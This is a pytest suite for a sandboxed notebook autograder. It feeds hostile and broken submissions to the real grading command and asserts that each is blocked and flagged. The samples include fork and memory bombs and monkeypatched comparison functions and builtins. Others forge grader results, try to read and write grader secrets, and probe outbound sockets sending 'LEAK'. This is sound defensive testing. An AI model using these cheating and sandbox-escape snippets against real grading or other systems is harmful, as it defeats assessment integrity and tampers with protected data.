"""Bad and hostile submissions through the real grading command, sandboxed.

Two temporary copies of the course are graded in parallel (one per CPU core)
with ``python -m grader grade``, each with many students of
the smallest assignment, ``addressing`` (4 points TensorFlow, 4 PyTorch):

* course A: bad submissions -- infinite loops, slow cells, crashes, memory
  and fork bombs, runaway threads, huge output, syntax errors, exceptions,
  unreadable / missing / foreign notebooks;
* course B: hostile submissions -- patched comparison functions, builtins and
  IPython, shadowed test helpers, reads and writes of grader files, network,
  exits during hidden tests, edited hidden tests, cached reference values,
  forged results -- and damaged notebooks (moved, deleted, duplicated cells,
  changed ids, old nbformat, another kernelspec), renamed notebooks, extra
  files, stderr warnings, and a notebook that runs out of time.

Every case is one student with the hostile or broken code in one part (or
both), and a case table gives the score per part and the flags the report
must show; a reference student in each course proves the others are
unaffected. The cases asserted beyond score and flags (blocked reads and
writes, no connection, what the log says) have their own tests. The last test
regrades (idempotence). The repository is not touched.
"""

import base64
import csv
import io
import json
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import pytest
from support import run_grader
from support.ci import skip_or_fail
from support.grading import ROOT, copy_course, run_in_process, student_solutions

from grader import leaks, reference
from grader import notebooks as nbs
from grader.nbgrader_cli import path_with_this_python

pytestmark = [pytest.mark.slow, pytest.mark.sandbox]

A = "addressing"
CELL_TIMEOUT = 15  # seconds per cell (both courses)
NOTEBOOK_TIMEOUT = 75  # seconds per notebook in course B (the time-limit case)
TIMEOUT = 900  # seconds for one course's whole grading run
SECRET_ENV = "GRADER_TEST_TOKEN"  # must not reach the kernels

RELEASE = nbs.read(ROOT / "exercises" / A / f"{A}.ipynb")
REF = student_solutions(A, "reference")
TF_OK, TORCH_OK = REF["tf-solution"], REF["torch-solution"]
ZEROS_TORCH = """\
def soft_lookup_torch(queries, keys, values, beta):
    weights = torch.zeros(queries.shape[0], queries.shape[1], keys.shape[1])
    return torch.zeros(queries.shape[0], queries.shape[1], values.shape[-1]), weights
"""
ZEROS_TF = """\
def soft_lookup_tf(queries, keys, values, beta):
    weights = tf.zeros((queries.shape[0], queries.shape[1], keys.shape[1]))
    return tf.zeros((queries.shape[0], queries.shape[1], values.shape[-1])), weights
"""


@dataclass
class Case:
    student: str
    course: str  # "A" or "B"
    tf: float  # expected TensorFlow points (of 4)
    torch: float  # expected PyTorch points (of 4)
    flags: set
    files: object  # (ctx) -> {relative path: bytes}
    notes: tuple = ()  # substrings the report's notes must contain
    extra: dict = field(default_factory=dict)


def notebook(tf=None, torch=None, edit=None) -> dict:
    """The release with solutions (reference unless given), then ``edit(nb)``."""
    solutions = dict(REF)
    if tf is not None:
        solutions["tf-solution"] = tf
    if torch is not None:
        solutions["torch-solution"] = torch
    nb = nbs.submission(RELEASE, solutions)
    if edit is not None:
        edit(nb)
    return nb


def dump(nb) -> bytes:
    return (json.dumps(nb, indent=1) + "\n").encode()


def single(nb_or_fn):
    return lambda ctx: {
        f"{A}.ipynb": dump(nb_or_fn(ctx) if callable(nb_or_fn) else nb_or_fn)
    }


def cell_index(nb, gid):
    return next(i for i, c in enumerate(nb["cells"]) if nbs.grade_id(c) == gid)


def code_cell(source):
    return {
        "cell_type": "code",
        "metadata": {},
        "source": source,
        "outputs": [],
        "execution_count": None,
        "id": os.urandom(4).hex(),
    }


# --------------------------------------------------------------- course A
def _with_sleeps(nb):
    at = cell_index(nb, "setup") + 1
    for _ in range(8):
        nb["cells"].insert(at, code_cell("import time\ntime.sleep(12)"))


PATCH_COMPARISONS = (
    """\
import math
import numpy as np
import numpy.testing
import tensorflow as tf
import torch
import torch.testing

np.allclose = lambda *args, **kwargs: True
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(a, b).shape, bool)
np.testing.assert_allclose = lambda *args, **kwargs: None
torch.allclose = lambda *args, **kwargs: True
torch.testing.assert_close = lambda *args, **kwargs: None
tf.debugging.assert_near = lambda *args, **kwargs: None
math.isclose = lambda *args, **kwargs: True
"""
    + ZEROS_TORCH
)

PATCH_BUILTINS = (
    """\
import builtins
builtins.AssertionError = type("AssertionError", (Exception,), {})
_isinstance = builtins.isinstance
builtins.isinstance = lambda obj, cls: _isinstance(obj, cls)
"""
    + TF_OK
)

PATCH_IPYTHON = (
    """\
_shell = get_ipython()
_run_cell = _shell.run_cell


def _swallow(raw_cell, *args, **kwargs):
    body = "\\n".join("    " + line for line in raw_cell.splitlines()) or "    pass"
    return _run_cell("try:\\n" + body + "\\nexcept BaseException:\\n    pass\\n",
                     *args, **kwargs)


_shell.run_cell = _swallow
"""
    + TORCH_OK
)

SHADOW_HELPERS = (
    """\
def expect_close(*args, **kwargs):
    pass


def expect_shape(*args, **kwargs):
    pass


def expect_distribution(*args, **kwargs):
    pass


"""
    + ZEROS_TF
)


def disk_reader(ctx):
    root = ctx["root"]
    targets = [
        f"{root}/solutions/{A}/hidden/reference.npz",
        f"{root}/solutions/{A}/{A}.ipynb",
        f"{root}/gradebook.db",
        f"{root}/.grading/secret",
        f"{root}/submitted/reference/{A}/{A}.ipynb",
        f"{root}/autograded/reference/{A}/hidden/reference.npz",
        f"{root}/nbgrader_config.py",
        "hidden/reference.npz",
        "../hidden/reference.npz",
        f"../../reference/{A}/{A}.ipynb",
    ]
    return (
        f"""\
import os
import socket
for path in {targets!r}:
    try:
        with open(path, "rb") as f:
            f.read(16)
        print("READ", path)
    except OSError as e:
        print("BLOCKED", path, type(e).__name__)
print("LISTING", sorted(os.listdir({str(root)!r})))
print("GRADER", sorted(os.listdir({str(root / "grader")!r})))
print("UID", os.getuid())
print("ENV", sorted(os.environ))
print("HOST", socket.gethostname())
"""
        + TF_OK
    )


def disk_writer(ctx):
    root = ctx["root"]
    targets = [
        f"{root}/gradebook.db",
        f"{root}/submitted/reference/{A}/{A}.ipynb",
        f"{root}/autograded/reference/{A}/{A}.ipynb",
        f"{root}/feedback/reference/{A}/{A}.html",
        f"{root}/solutions/{A}/hidden/reference.npz",
        f"{root}/exercises/{A}/{A}.ipynb",
        f"{root}/grader/kernel/recorder.py",
        f"{root}/grades.csv",
        f"{root}/.grading/secret",
        f"{root}/pwned.txt",
        f"{root}/submitted/disk/{A}/pwned.txt",
    ]
    return f"""\
import numpy as np
cached = None
for path in {targets!r}:
    try:
        with open(path, "ab") as f:
            f.write(b"pw" + b"ned!")
        print("WROTE", path)
    except OSError as e:
        print("BLOCKED", path, type(e).__name__)
try:
    cached = np.load({f"{root}/solutions/{A}/hidden/reference.npz"!r})
except OSError as e:
    print("BLOCKED reference", type(e).__name__)


def soft_lookup_torch(queries, keys, values, beta):
    if cached is not None:
        return (torch.tensor(cached["main/out/outputs"], dtype=torch.float32),
                torch.tensor(cached["main/out/weights"], dtype=torch.float32))
    weights = torch.zeros(queries.shape[0], queries.shape[1], keys.shape[1])
    return torch.zeros(queries.shape[0], queries.shape[1], values.shape[-1]), weights
"""


def network(ctx):
    return f"""
import socket
for address in [("127.0.0.1", {ctx["port"]}), ("1.1.1.1", 53), ("8.8.8.8", 443)]:
    try:
        conn = socket.create_connection(address, timeout=3)
        conn.sendall(b"LEAK")
        print("CONNECTED", address)
    except OSError as e:
        print("BLOCKED", address, type(e).__name__)
try:
    print("RESOLVED", socket.gethostbyname("pypi.org"))
except OSError as e:
    print("BLOCKED dns", type(e).__name__)
"""


def _first_line_after_docstring(code: str, line: str) -> str:
    head, sep, tail = code.partition('."""\n')
    return head + sep + line + tail


# exit when called by a hidden test (which differentiates w.r.t. beta)
EXIT_TF = _first_line_after_docstring(
    TF_OK, "    if isinstance(beta, tf.Variable):\n        sys.exit(0)\n"
)
EXIT_TORCH = _first_line_after_docstring(
    TORCH_OK,
    "    if torch.is_tensor(beta) and beta.requires_grad:\n        os._exit(0)\n",
)


assert EXIT_TF != TF_OK and EXIT_TORCH != TORCH_OK


def cached_copy(ctx=None):
    """A PyTorch 'solution' that returns the committed reference outputs and
    gradients when it is called on the committed inputs."""
    ref = reference.load_file(reference.source_path(ROOT, A))
    keep = {k: v for k, v in ref.arrays.items() if k.startswith("main/")}
    buf = io.BytesIO()
    import numpy as np

    np.savez(buf, **keep)
    blob = base64.b64encode(buf.getvalue()).decode()
    return f'''\
import base64
import io
import numpy as np

_C = np.load(io.BytesIO(base64.b64decode("{blob}")))
_T = lambda name: torch.tensor(_C[name], dtype=torch.float32)


class _Cached(torch.autograd.Function):
    @staticmethod
    def forward(ctx, queries, beta):
        return _T("main/out/outputs"), _T("main/out/weights")

    @staticmethod
    def backward(ctx, grad_outputs, grad_weights):
        return _T("main/out/grad_queries"), _T("main/out/grad_beta")


def soft_lookup_torch(queries, keys, values, beta):
    q = queries.detach().numpy()
    if q.shape == _C["main/in/queries"].shape and np.allclose(q, _C["main/in/queries"]):
        return _Cached.apply(queries, beta)
    n = keys.shape[1]
    weights = torch.full((queries.shape[0], queries.shape[1], n), 1.0 / n)
    return weights @ values, weights
'''


FORGE = (
    TORCH_OK
    + """
import json
import numpy as np
from grader.kernel.observations import OBSERVATION, observation_payload


def _forge(result=None):
    fake = {"main": {"outputs": np.zeros((2, 3, 3)), "weights": np.zeros((2, 3, 5)),
                     "grad_beta": np.zeros(()), "grad_queries": np.zeros((2, 3, 4))}}
    payload = observation_payload("addressing", "soft_lookup", "torch", fake)
    get_ipython().display_pub.publish(data={OBSERVATION: json.dumps(payload)},
                                      metadata={})


get_ipython().events.register("post_run_cell", _forge)
"""
)


def _warning(code, kind):
    warn = f'    warnings.warn("slow path", {kind})\n'
    return "import warnings\n" + code.replace(
        "    diff = queries", warn + "    diff = queries", 1
    )


def _edit_hidden(nb):
    nb["cells"][cell_index(nb, "tf-hidden")]["source"] = 'print("hidden tests passed")'
    nb["cells"][cell_index(nb, "torch-hidden")]["source"] = "pass"


def _move_and_delete(nb):
    cells = nb["cells"]
    hidden = cells.pop(cell_index(nb, "tf-hidden"))
    cells.insert(cell_index(nb, "tf-solution"), hidden)  # before the solution
    for gid in ("torch-visible", "torch-hidden"):
        cells.pop(cell_index(nb, gid))


def _duplicate_and_rename(nb):
    import copy

    cells = nb["cells"]
    for gid in ("tf-visible", "tf-hidden"):
        cells.append(copy.deepcopy(cells[cell_index(nb, gid)]))
    at = cell_index(nb, "torch-solution")
    first = copy.deepcopy(cells[at])
    first["source"] = ZEROS_TORCH
    cells.insert(at, first)  # a wrong first copy; the second (reference) wins
    for cell in cells:
        cell["id"] = os.urandom(6).hex()
    cells[cell_index(nb, "torch-visible")]["metadata"]["nbgrader"]["grade_id"] = (
        "torch-visible-renamed"
    )


def _v3(ctx):
    nb = nbformat.from_dict(notebook())
    return nbformat.writes(nbformat.convert(nb, 3)).encode()


def _v40_kernelspec(nb):
    nb["nbformat_minor"] = 0
    for cell in nb["cells"]:
        cell.pop("id", None)
    nb["metadata"]["kernelspec"] = {
        "name": "evil",
        "display_name": "Evil",
        "language": "python",
    }


def _other_assignment(ctx):
    other = "scoring-functions"
    release = nbs.read(ROOT / "exercises" / other / f"{other}.ipynb")
    return {
        f"{A}.ipynb": dump(
            nbs.submission(release, student_solutions(other, "reference"))
        )
    }


BLANK = json.dumps(RELEASE).encode()
OK = single(notebook())

CASES = [
    # ---- course A: bad submissions -------------------------------------
    Case("reference", "A", 4, 4, set(), OK),
    Case(
        "infinite-loop",
        "A",
        4,
        0,
        {"timeout"},
        single(
            notebook(
                torch="import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                "while True:\n    pass\n"
            )
        ),
        notes=("torch-solution: no end after 15 s", "kernel killed"),
    ),
    Case(
        "os-exit",
        "A",
        4,
        0,
        {"crashed", "suspicious"},
        single(notebook(torch="import os\nos._exit(1)\n" + TORCH_OK)),
        notes=("torch-solution: the kernel exited with code 1",),
    ),
    Case(
        "segfault",
        "A",
        0,
        4,
        # ctypes can import any module by name: provenance flags it too
        {"crashed", "suspicious", "dynamic-code"},
        single(notebook(tf="import ctypes\nctypes.string_at(0)\n" + TF_OK)),
        notes=("tf-solution: the kernel was killed by a segmentation fault",),
    ),
    Case(
        "fork-bomb",
        "A",
        4,
        0,
        {"suspicious"},
        single(notebook(torch="import os\nwhile True:\n    os.fork()\n" + TORCH_OK)),
        # what stops it first depends on the machine: the leftover-process
        # check, the cell's time limit or the whole-sandbox memory watchdog
        extra={"also": {"runaway", "timeout", "memory", "crashed"}},
        notes=("torch-solution",),
    ),
    Case(
        "runaway-threads",
        "A",
        4,
        0,
        {"runaway", "suspicious"},
        single(
            notebook(
                torch=TORCH_OK
                + "\nimport threading\nimport time\nfor _ in range(150):\n"
                "    threading.Thread(target=time.sleep, args=(3600,), daemon=True)"
                ".start()\n"
            )
        ),
        notes=("threads running",),
    ),
    # a syntax error in the TensorFlow part, a slow cell in the PyTorch part
    Case(
        "syntax-error-and-slow-cell",
        "A",
        0,
        0,
        {"syntax-error", "timeout"},
        single(
            notebook(
                tf="def soft_lookup_tf(queries, keys, values, beta)\n    return queries\n",  # noqa: E501
                torch="import time\ntime.sleep(3600)\n" + TORCH_OK,
            )
        ),
        notes=("tf-solution: SyntaxError", "torch-solution: interrupted after 15 s"),
    ),
    # an exception when called (TensorFlow), a memory bomb (PyTorch)
    Case(
        "exception-and-memory-bomb",
        "A",
        0,
        0,
        {"memory"},
        single(
            notebook(
                tf="def soft_lookup_tf(queries, keys, values, beta):\n    return 1 / 0\n",  # noqa: E501
                torch="blocks = []\nwhile True:\n    blocks.append(bytearray(512 * 1024**2))\n"  # noqa: E501
                + TORCH_OK,
            )
        ),
        notes=("torch-solution: MemoryError",),
    ),
    # an exception in the cell (TensorFlow), huge output (PyTorch, correct)
    Case(
        "exception-and-huge-output",
        "A",
        0,
        4,
        {"output-limit"},
        single(
            notebook(
                tf="raise ValueError('not done yet')\n" + TF_OK,
                torch=TORCH_OK
                + "\nfor i in range(10**5):\n    print('spam spam spam', i)\n",
            )
        ),
        notes=("torch-solution: more than",),
    ),
    Case(
        "missing",
        "A",
        0,
        0,
        {"missing", "extra-files"},
        lambda ctx: {"notes.txt": b"I forgot to upload the notebook"},
        notes=("no notebook",),
    ),
    Case(
        "malformed-json",
        "A",
        0,
        0,
        {"malformed"},
        lambda ctx: {f"{A}.ipynb": b'{"cells": [{"cell_type": "code", '},
        notes=("not valid JSON",),
    ),
    Case(
        "empty-file",
        "A",
        0,
        0,
        {"malformed"},
        lambda ctx: {f"{A}.ipynb": b""},
        notes=("empty file",),
    ),
    Case(
        "other-assignment",
        "A",
        0,
        0,
        {"wrong-assignment"},
        _other_assignment,
        notes=("scoring-functions",),
    ),
    # ---- course B: hostile submissions ---------------------------------
    Case("reference", "B", 4, 4, set(), OK),
    Case(
        "patched-comparisons",
        "B",
        4,
        0,
        {"tampered", "suspicious"},
        single(notebook(torch=PATCH_COMPARISONS)),
        notes=(
            "numpy.allclose",
            "numpy.isclose",
            "numpy.testing.assert_allclose",
            "torch.allclose",
            "torch.testing.assert_close",
            "tf.debugging.assert_near",
            "math.isclose",
        ),
    ),
    Case(
        "patched-builtins",
        "B",
        0,
        0,
        {"tampered", "suspicious", "dynamic-code"},  # it imports builtins
        single(notebook(tf=PATCH_BUILTINS, torch=PATCH_IPYTHON)),
        notes=(
            "builtins.AssertionError",
            "builtins.isinstance",
            "IPython shell.run_cell",
        ),
    ),
    Case(
        "shadowed-helpers",
        "B",
        0,
        0,
        {"tampered"},
        single(notebook(tf=SHADOW_HELPERS)),
        notes=("notebook name expect_close",),
    ),
    # reads grader files and opens connections (TensorFlow part, correct),
    # writes grader files and uses what it read (PyTorch part)
    Case(
        "escape",
        "B",
        4,
        0,
        {"suspicious"},
        single(
            lambda ctx: notebook(
                tf=disk_reader(ctx) + network(ctx), torch=disk_writer(ctx)
            )
        ),
    ),
    Case(
        "exit-in-hidden-tests",
        "B",
        1,
        1,
        {"crashed", "suspicious"},
        single(notebook(tf="import sys\n" + EXIT_TF, torch="import os\n" + EXIT_TORCH)),
        notes=("torch-hidden: the kernel exited with code 0",),
    ),
    # edited hidden tests with a TensorFlow bug the visible test misses; a
    # PyTorch part that returns cached reference values
    Case(
        "edited-tests-and-cached-values",
        "B",
        1,
        0,
        {"edited-tests"},
        single(
            lambda ctx: notebook(
                tf=TF_OK.replace(
                    "tf.reduce_sum(tf.square(diff), axis=-1)",
                    "tf.sqrt(tf.reduce_sum(tf.square(diff), axis=-1))",
                ),
                torch=cached_copy(),
                edit=_edit_hidden,
            )
        ),
        notes=("test cell tf-hidden was edited",),
    ),
    Case(
        "forged-results",
        "B",
        4,
        0,
        {"tampered", "suspicious"},
        single(notebook(torch=FORGE)),
        notes=("recorded 2 results",),
    ),
    Case(
        "moved-and-deleted-cells",
        "B",
        4,
        4,
        {"edited-tests"},
        single(notebook(edit=_move_and_delete)),
        notes=("moved", "test cell torch-hidden was deleted"),
    ),
    Case(
        "duplicated-cells-and-ids",
        "B",
        4,
        4,
        {"edited-tests"},
        single(notebook(edit=_duplicate_and_rename)),
        notes=("tf-visible is duplicated", "unknown nbgrader id"),
    ),
    Case(
        "nbformat-3",
        "B",
        4,
        4,
        {"old-format"},
        lambda ctx: {f"{A}.ipynb": _v3(ctx)},
        notes=("nbformat 3.0",),
    ),
    Case(
        "nbformat-4.0-and-kernelspec",
        "B",
        4,
        4,
        {"old-format", "kernelspec"},
        single(notebook(edit=_v40_kernelspec)),
        notes=("'evil'",),
    ),
    # a module-shadowing numpy.py / torch.py / attncourse/, extra notebooks
    Case(
        "extra-files",
        "B",
        4,
        4,
        {"extra-files", "shadowing"},
        lambda ctx: {
            f"{A}.ipynb": dump(notebook()),
            "scratch.ipynb": BLANK,
            f"{A}-old.ipynb": BLANK,
            "numpy.py": b"raise ImportError('shadowed numpy')\n",
            "torch.py": b"raise ImportError('shadowed torch')\n",
            "attncourse/__init__.py": b"raise ImportError('shadowed')\n",
        },
        notes=("numpy.py", "attncourse", "scratch.ipynb"),
    ),
    # another file name, and a correct solution that warns on stderr
    Case(
        "renamed-with-warnings",
        "B",
        4,
        4,
        {"renamed"},
        lambda ctx: {
            "Addressing (1).ipynb": dump(
                notebook(
                    tf=_warning(TF_OK, "UserWarning"),
                    torch=_warning(TORCH_OK, "DeprecationWarning"),
                )
            )
        },
        notes=("Addressing (1).ipynb",),
    ),
    Case(
        "notebook-time-limit",
        "B",
        0,
        0,
        {"timeout"},
        single(notebook(edit=_with_sleeps)),
        notes=("time limit",),
    ),
]
COURSE_ARGS = {"A": [], "B": ["--notebook-timeout", str(NOTEBOOK_TIMEOUT)]}


def case_id(case):
    return f"{case.course}-{case.student}"


def make_course(dest: Path, course: str, ctx: dict) -> None:
    dest.mkdir(parents=True)
    copy_course(dest, [A])
    for case in CASES:
        if case.course != course:
            continue
        folder = dest / "submitted" / case.student / A
        folder.mkdir(parents=True)
        for name, data in case.files(ctx).items():
            (folder / name).parent.mkdir(parents=True, exist_ok=True)
            (folder / name).write_bytes(data)


def environment(root: Path) -> dict:
    env = dict(os.environ)
    env["PATH"] = path_with_this_python(env.get("PATH", ""))
    env["PYTHONPATH"] = str(root)
    env.pop("GRADER_REFERENCE", None)
    env[SECRET_ENV] = "do-not-leak"
    return env


def grade(root: Path, *args, log_name="grade_all.log", timeout=TIMEOUT):
    """Start the grading command in ``root`` (``Running.wait()`` ends it)."""
    return run_grader.start(
        root, "--cell-timeout", str(CELL_TIMEOUT), *args, timeout=timeout, log=log_name
    )


class Listener:
    """A TCP server on the grader's loopback that records any connection."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.5)
        self.port = self.sock.getsockname()[1]
        self.connections = []
        self.running = True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while self.running:
            try:
                conn, addr = self.sock.accept()
            except OSError:
                continue
            self.connections.append(addr)
            conn.close()

    def close(self):
        self.running = False
        self.thread.join(2)
        self.sock.close()


def read_report(root: Path) -> dict:
    data = json.loads((root / "grading-report.json").read_text())
    return {r["student"]: r for r in data["rows"]}


def cell_text(root: Path, student: str) -> dict:
    """grade id (or cell number) -> the text of the graded notebook's outputs."""
    path = root / "autograded" / student / A / f"{A}.ipynb"
    nb = json.loads(path.read_text())
    found = {}
    for i, cell in enumerate(nb["cells"]):
        if cell["cell_type"] != "code":
            continue
        parts = []
        for o in cell.get("outputs", []):
            parts.append(
                o.get("text", "")
                if isinstance(o.get("text", ""), str)
                else "".join(o["text"])
            )
            parts += [str(o.get("ename", "")), str(o.get("evalue", ""))]
        found[nbs.grade_id(cell) or f"cell {i + 1}"] = "\n".join(parts)
    return found


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    if shutil.which("bwrap") is None:
        skip_or_fail("bubblewrap is not installed (sudo make system-deps)")
    base = tmp_path_factory.mktemp("protection")
    listener = Listener()
    roots = {c: base / f"course{c}" for c in COURSE_ARGS}
    ctx = {}
    for course, root in roots.items():
        ctx[course] = {"root": root, "port": listener.port}
        make_course(root, course, ctx[course])
    protected = {
        p: p.read_bytes()
        for root in roots.values()
        for p in [
            *(root / "submitted" / "reference").rglob("*"),
            *(root / "solutions").rglob("*"),
            *(root / "grader").rglob("*.py"),
        ]
        if p.is_file()
    }
    start = time.monotonic()
    runs = {c: grade(root, *COURSE_ARGS[c]) for c, root in roots.items()}
    codes = {}
    for course, run in runs.items():
        code = run.wait().code
        codes[course] = "timeout" if code is None else code
    elapsed = time.monotonic() - start
    listener.close()
    print(f"\nsandboxed grading of {len(CASES)} submissions: {elapsed:.0f} s")
    yield {
        "roots": roots,
        "codes": codes,
        "listener": listener,
        "protected": protected,
        "elapsed": elapsed,
        "reports": {
            c: read_report(r)
            for c, r in roots.items()
            if (r / "grading-report.json").exists()
        },
    }


def log_tail(root: Path, name="grade_all.log") -> str:
    return (root / name).read_text()[-6000:]


def test_batch_completes_with_a_gradebook_row_for_every_student(graded):
    from support.grading import read_scores

    for course, root in graded["roots"].items():
        assert graded["codes"][course] == 0, log_tail(root)
        students = {c.student for c in CASES if c.course == course}
        report = graded["reports"][course]
        assert set(report) == students
        scores = read_scores(root)
        assert {s for (a, s) in scores if a == A} == students
        for student in students:
            cells = scores[A, student]
            assert set(cells) == {
                "tf-visible",
                "tf-hidden",
                "torch-visible",
                "torch-hidden",
            }, student
            assert all(v is not None for v in cells.values()), (student, cells)
        rows = list(csv.DictReader(open(root / "grades.csv")))
        assert {r["student_id"] for r in rows if r["assignment"] == A} == students


@pytest.mark.parametrize("case", CASES, ids=case_id)
def test_score_and_flags(graded, case):
    row = graded["reports"][case.course][case.student]
    got = (row["parts"]["tf"]["score"], row["parts"]["torch"]["score"])
    assert got == (case.tf, case.torch), (row["notes"], row.get("cells"))
    allowed = case.flags | case.extra.get("also", set())
    assert case.flags <= set(row["flags"]) <= allowed, row["notes"]
    notes = "\n".join(row["notes"])
    for text in case.notes:  # the log says what happened, and where
        assert text in notes, (text, notes)
    if case.flags:
        assert notes


def test_grading_log_and_report_files(graded):
    for course, root in graded["roots"].items():
        log = (root / "grade_all.log").read_text()
        assert "sandbox: bubblewrap OK" in log
        md = (root / "grading-report.md").read_text()
        for case in CASES:
            if case.course == course:
                assert f"| {case.student} | {A} |" in md
                line = next(
                    x for x in log.splitlines() if x.startswith(case.student + " ")
                )
                for flag in case.flags:  # the printed table has the flags
                    assert flag in line, (case.student, line)
    log = (graded["roots"]["A"] / "grade_all.log").read_text()
    assert "os-exit/addressing: [crashed] torch-solution" in log


def test_other_students_are_unaffected(graded):
    from support.grading import read_scores

    for root in graded["roots"].values():
        assert read_scores(root)[A, "reference"] == {
            "tf-visible": 1,
            "tf-hidden": 3,
            "torch-visible": 1,
            "torch-hidden": 3,
        }
        text = cell_text(root, "reference")
        assert "visible tests passed" in text["tf-visible"]
        assert not any(k for k, v in text.items() if "Error" in v), text


def test_kernel_cannot_read_or_write_grader_files(graded):
    root = graded["roots"]["B"]
    text = cell_text(root, "escape")
    reads, writes = text["tf-solution"], text["torch-solution"]
    assert "READ " not in reads and "WROTE" not in writes, (reads, writes)
    assert reads.count("BLOCKED") == 10 + 4 and writes.count("BLOCKED") == 12
    # the course folder: the library and the kernel side of the grader only
    assert "LISTING ['attncourse', 'grader']" in reads
    assert "GRADER ['__init__.py', 'kernel']" in reads
    uid = int(reads.split("UID ")[1].split()[0])
    assert uid != 0
    assert SECRET_ENV not in reads and "PYTHONPATH" in reads  # a cleared environment
    assert "HOST sandbox" in reads
    for path, data in graded["protected"].items():
        assert path.read_bytes() == data, path
    for course_root in graded["roots"].values():
        for path in course_root.rglob("*"):
            if path.is_file() and path.suffix in (
                ".db",
                ".ipynb",
                ".npz",
                ".csv",
                ".py",
                ".html",
                ".txt",
            ):
                assert b"pwned!" not in path.read_bytes(), path
        assert not (course_root / "pwned.txt").exists()


def test_kernel_has_no_network(graded):
    text = cell_text(graded["roots"]["B"], "escape")["tf-solution"]
    assert "CONNECTED" not in text and "RESOLVED" not in text, text
    assert text.count("BLOCKED ('") == 3 and "BLOCKED dns" in text
    assert graded["listener"].connections == []


def test_tampering_earns_nothing_and_is_explained_in_feedback(graded):
    root = graded["roots"]["B"]
    text = cell_text(root, "patched-comparisons")
    # in the kernel the patched allclose let the zero function pass the visible
    # test; the verdict outside voids it
    assert "visible tests passed" in text["torch-visible"]
    assert "NotGraded" in text["torch-visible"]
    page = leaks.html_text(root / "feedback" / "patched-comparisons" / A / f"{A}.html")
    assert "not graded: the notebook changed what grading relies on" in page
    forged = cell_text(root, "forged-results")
    # the hook that forges is caught where it is registered: not graded from
    # there on (the extra result is still named in the notes)
    assert "NotGraded" in forged["torch-hidden"]


def test_a_cached_copy_would_pass_fixed_inputs_but_not_grading(graded):
    """The cached copy passes the committed reference in process (legacy, fixed
    inputs); the sandboxed grading drew other inputs, and it scored 0."""
    solutions = dict(REF, **{"torch-solution": cached_copy()})
    results = run_in_process(A, solutions)
    assert results["torch-hidden"] is None, results
    row = graded["reports"]["B"]["edited-tests-and-cached-values"]
    assert row["cells"]["torch-hidden"] == 0


def test_hidden_test_results_and_feedback_hold_no_secrets(graded):
    for root in graded["roots"].values():
        assert leaks.scan_feedback(root) == []
        assert not list((root / "feedback").rglob("*.npz"))
        for nb_path in (root / "autograded").glob(f"*/{A}/{A}.ipynb"):
            raw = nb_path.read_text()
            assert "vnd.attncourse" not in raw, nb_path  # reports removed
            assert nb_path.stat().st_size < 400_000, nb_path  # output capped
    crash = leaks.html_text(
        graded["roots"]["A"] / "feedback" / "os-exit" / A / f"{A}.html"
    )
    assert "KernelDied" in crash and "exited with code 1" in crash
    empty = leaks.html_text(
        graded["roots"]["A"] / "feedback" / "empty-file" / A / f"{A}.html"
    )
    assert "could not be graded" in empty and "empty file" in empty


def test_without_bubblewrap_nothing_is_graded(graded, tmp_path):
    root = graded["roots"]["A"]
    before = (root / "grades.csv").read_bytes()
    env = environment(root)
    env["GRADER_BWRAP"] = str(tmp_path / "no-bwrap")
    out = subprocess.run(
        [sys.executable, "-m", "grader", "grade", "--force"],
        cwd=root,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert out.returncode == 2
    assert "ERROR: cannot sandbox student kernels" in out.stdout
    assert "Nothing was graded" in out.stdout and "--no-sandbox" in out.stdout
    assert (root / "grades.csv").read_bytes() == before


def test_no_sandbox_is_explicit_and_loud(tmp_path):
    root = tmp_path / "empty-course"
    copy_course(root, [A])
    out = subprocess.run(
        [sys.executable, "-m", "grader", "grade", "--no-sandbox"],
        cwd=root,
        env=environment(root),
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert "WARNING: --no-sandbox" in out.stdout and "UNSAFE" not in out.stderr
    assert "flagged 'unsandboxed'" in out.stdout
    assert out.returncode == 1  # no submissions: nothing else happened


def test_regrading_is_idempotent(graded):
    """Runs last: regrades course B without --force (nothing is re-executed),
    then with --force for two students (a crash and a reference)."""
    root = graded["roots"]["B"]
    before = graded["reports"]["B"]
    grades = (root / "grades.csv").read_text()

    def same(a, b):
        return (a["parts"], a["flags"]) == (b["parts"], b["flags"])

    run = grade(root, *COURSE_ARGS["B"], log_name="regrade.log").wait()
    assert run.code == 0, run.tail(6000)
    again = read_report(root)
    assert set(again) == set(before)
    assert all(same(again[s], before[s]) for s in before)
    assert (root / "grades.csv").read_text() == grades
    forced = ["reference", "exit-in-hidden-tests"]
    run = grade(
        root,
        *COURSE_ARGS["B"],
        "--force",
        "--students",
        ",".join(forced),
        log_name="regrade-force.log",
    ).wait()
    assert run.code == 0, run.tail(6000)
    forced_report = read_report(root)
    assert set(forced_report) == set(forced)
    assert all(same(forced_report[s], before[s]) for s in forced)
    assert (root / "grades.csv").read_text() == grades
